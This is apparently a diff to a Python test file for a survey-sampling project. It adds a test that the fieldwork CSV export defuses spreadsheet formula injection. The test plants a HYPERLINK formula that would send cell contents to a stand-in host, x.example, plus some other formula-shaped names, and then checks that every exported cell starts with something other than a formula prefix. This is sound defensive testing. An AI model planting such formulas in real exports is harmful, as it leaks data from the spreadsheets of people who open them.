@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import pytest
+from sqlalchemy import func
 from sqlalchemy.engine import Engine
 from sqlmodel import Session, select
 
@@ -138,3 +139,27 @@ def test_strata_by_district_fail_clearly_on_a_frame_without_districts(engine: En
             _draw(session, hamlets_per_stratum=1)
         draw = _draw(session, strata_level="commune", hamlets_per_stratum=2)
         assert [h.certainty for h in draw.hamlets] == [True, True]  # type: ignore[attr-defined]
+
+
+def test_the_fieldwork_list_never_carries_a_live_spreadsheet_formula(ready: Engine) -> None:
+    """A unit or an enumerator named like a formula comes out as text (issue 15)."""
+    import csv
+    import io
+
+    from survey.services.sample.lists import fieldwork_csv, fieldwork_hamlets
+
+    with Session(ready) as session:
+        factories.user(session, "enumerator", username="lan",
+                       full_name='=HYPERLINK("http://x.example/?"&A1,"Bấm")')
+        _draw(session, enumerators=["lan"])
+        for unit in session.exec(select(AdminUnit).where(func.length(AdminUnit.code) == 8)):
+            unit.name = "＝1+1" if unit.id % 2 else '=HYPERLINK("http://x.example")'
+            session.add(unit)
+        session.commit()
+        text = fieldwork_csv("2026", fieldwork_hamlets(session, "2026"))
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any("HYPERLINK" in c for c in cells) and any("＝1+1" in c for c in cells)
+    live = [c for c in cells if c[:1] in ("=", "+", "@", "＝") or c.startswith("-") and
+            not c[1:].replace(".", "").isdigit()]
+    assert live == []
